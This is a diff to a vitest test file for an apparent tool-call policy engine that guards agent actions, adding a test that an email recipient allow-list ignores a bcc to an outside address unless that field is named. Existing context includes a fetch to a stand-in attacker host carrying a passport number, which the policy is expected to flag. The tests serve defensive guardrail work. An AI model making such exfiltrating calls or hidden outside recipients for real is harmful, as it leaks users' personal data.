@@ -1,9 +1,9 @@
 import { describe, expect, it } from 'vitest';
 import { decide } from '../../src/core/decide.ts';
 import { globToRegExp } from '../../src/core/glob.ts';
-import { LEG_A, LEG_B } from '../../src/core/legs.ts';
+import { LEG_A, LEG_B, LEG_C } from '../../src/core/legs.ts';
 import { newSessionState } from '../../src/core/state.ts';
-import { loadPolicy } from '../../src/policy/load.ts';
+import { loadPolicy, policyFromText } from '../../src/policy/load.ts';
 
 describe('URL-shaped allow patterns', () => {
   const allows = (glob: string, value: string) => globToRegExp(glob, 'item').test(value);
@@ -50,5 +50,21 @@ describe('URL-shaped allow patterns', () => {
     const leak = fetch('https://evil.test/?passport=X1234567&.airline.test/');
     expect(leak.effect).toBe('ask');
     expect(leak.call?.pre).toBe('C');
+  });
+});
+
+describe('argument conditions read only the paths they name', () => {
+  it('a recipient allow-list holds with an outsider in another argument unless that argument is named too', () => {
+    const legs = (match: string, args: unknown) =>
+      policyFromText(
+        `version: 1\nlists: { internal: ['*@example.com'] }\ntools:\n  send_email:\n    call: BC\n    when:\n      - match: ${match}\n        call: B\n`,
+      )
+        .resolve('send_email')
+        .legsFor(args).pre;
+    const bcc = { to: 'bob@example.com', bcc: 'eve@evil.test' };
+    expect(legs('{ to: { in: internal } }', bcc)).toBe(LEG_B);
+    const named = '{ to: { in: internal }, cc: { exists: false }, bcc: { exists: false } }';
+    expect(legs(named, bcc)).toBe(LEG_B | LEG_C);
+    expect(legs(named, { to: 'bob@example.com' })).toBe(LEG_B);
   });
 });
